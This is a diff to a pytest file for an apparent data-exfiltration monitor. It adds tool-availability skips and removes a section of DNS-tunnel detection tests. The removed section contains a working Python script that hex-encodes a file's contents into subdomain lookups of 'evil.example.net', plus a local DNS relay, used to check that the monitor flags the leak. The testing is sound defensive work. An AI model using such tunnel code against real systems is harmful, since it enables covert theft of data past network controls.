@@ -4,6 +4,7 @@ Names of destinations, as real clients give them: what is asked for in TLS, HTTP
 name and bucket let through, whose bucket it is, and what goes unencrypted. The receivers count what came off the wire.
 """
 import os
+import shutil
 
 import pytest
 
@@ -21,6 +22,9 @@ API, MODELS, THIEF = "api.example.org", "approved-models.s3.eu-west-1.amazonaws.
 
 @pytest.fixture
 def cert(tmp):
+    for tool in ("openssl", "curl"):
+        if not shutil.which(tool):
+            pytest.skip(f"{tool} is not installed")
     return certificate(tmp)
 
 
@@ -371,87 +375,3 @@ def test_foreign_bucket(sluice, policy, dataset, lab, tls, names, run, job, wher
     assert set(sent) == {MODELS, THIEF}
     assert sum(sent.values()) == s.bytes()
     assert f["leak_bound"] == min(sent[THIEF], SIZE)
-
-
-# --- DNS as a way out --------------------------------------------------------------
-
-TUNNEL = """
-import socket, sys
-data = open(sys.argv[1], "rb").read()[:int(sys.argv[4])]
-for i in range(0, len(data), 30):
-    try:
-        socket.getaddrinfo(data[i:i + 30].hex() + "." + sys.argv[3], 80, family=socket.AF_INET, type=socket.SOCK_STREAM)
-    except socket.gaierror:
-        pass
-print(len(data))
-"""
-RELAY = """
-import socket, sys
-s = socket.socket(type=socket.SOCK_DGRAM)
-s.bind(("127.0.0.53", 53))
-up = socket.socket(type=socket.SOCK_DGRAM)
-up.connect((sys.argv[1], 53))
-print("ready", flush=True)
-while True:
-    data, whom = s.recvfrom(4096)
-    up.send(data)
-    s.sendto(up.recv(4096), whom)
-"""
-
-
-@pytest.fixture
-def noise(dataset, policy):
-    """What is read is no text, so that its hex is as long as can be."""
-    with open(f"{dataset}/f", "wb") as f:
-        f.write(os.urandom(SIZE))
-    return f"{dataset}/f"
-
-
-def tunnel(tmp, noise, domain, n):
-    with open(f"{tmp}/tunnel.py", "w", encoding="utf-8") as f:
-        f.write(TUNNEL)
-    return f"exec {PYTHON} {tmp}/tunnel.py {noise} x {domain} {n}"
-
-
-@pytest.mark.parametrize("relayed", [False, True], ids=["direct", "local-resolver"])
-def test_tunnel(sluice, policy, dataset, lab, names, run, tmp, job, noise, relayed):
-    d = names({})
-    m = sluice(policy(d))
-    server, relay = d, None
-    if relayed:
-        with open(f"{tmp}/relay.py", "w", encoding="utf-8") as f:
-            f.write(RELAY)
-        relay = work.Process(tmp, "relay", [PYTHON, f"{tmp}/relay.py", d.ip])
-        relay.wait_said("ready")
-        server = type("Local", (), {"ip": "127.0.0.53"})
-    run(server, tunnel(tmp, noise, "evil.example.net", 3001))
-    wait_for("the finding", lambda: [f for f in m.now("findings")["items"] if f["rule"] == "dns.tunnel"])
-    asking = [p for p in m.show("processes")["items"] if p["dns"] and p["process"]["comm"] == "python3" and p["datasets"]]
-    assert asking and asking[0]["dns"]["names"] >= 101, asking
-    r = m.stop()
-    if relay:
-        relay.kill()
-    f = r.finding("dns.tunnel")
-    asked = [name for name in d.asked() if name.endswith(".evil.example.net")]
-    assert len(set(asked)) == 101
-    assert "example.net" in f["title"]
-    assert f["job"] == job.name and f["dataset"] == "set"
-    assert f["severity"] in ("medium", "high", "critical")
-    assert f["leak_bound"] >= sum(len(name) - len(".evil.example.net") for name in set(asked)) == 6002
-    assert f["leak_bound"] <= 2 * sum(len(name) for name in asked)
-    assert f["remote"]["addr"] == server.ip and f["remote"]["port"] == 53
-    assert f["chain"][0]["via"] == "read" and f["chain"][-1]["via"] == "dns"
-
-
-def test_ordinary_questions(sluice, policy, dataset, lab, names, run, tmp, noise):
-    """A tainted process that asks for some dozens of hosts, buckets and hashed names as they are."""
-    hosts = [f"node-{i}.cluster.local" for i in range(60)] + [f"d{i:013x}.cloudfront.net" for i in range(20)] + \
-        [f"my-bucket-{i}.s3.eu-west-1.amazonaws.com" for i in range(60)] + \
-        [f"ip-10-0-{i}-{j}.ec2.internal" for i in range(8) for j in range(8)]
-    d = names({h: ["203.0.113.9"] for h in hosts})
-    m = sluice(policy(d))
-    run(d, f"exec {PYTHON} -c \"import socket, sys; open(sys.argv[1], \"rb\").read(); [socket.gethostbyname(h) for h in sys.argv[2:]]\" {noise} " + " ".join(hosts))
-    r = m.stop()
-    assert len(set(d.asked())) >= len(hosts)
-    assert r.findings("dns.tunnel") == {}
-    assert r.findings() == {}
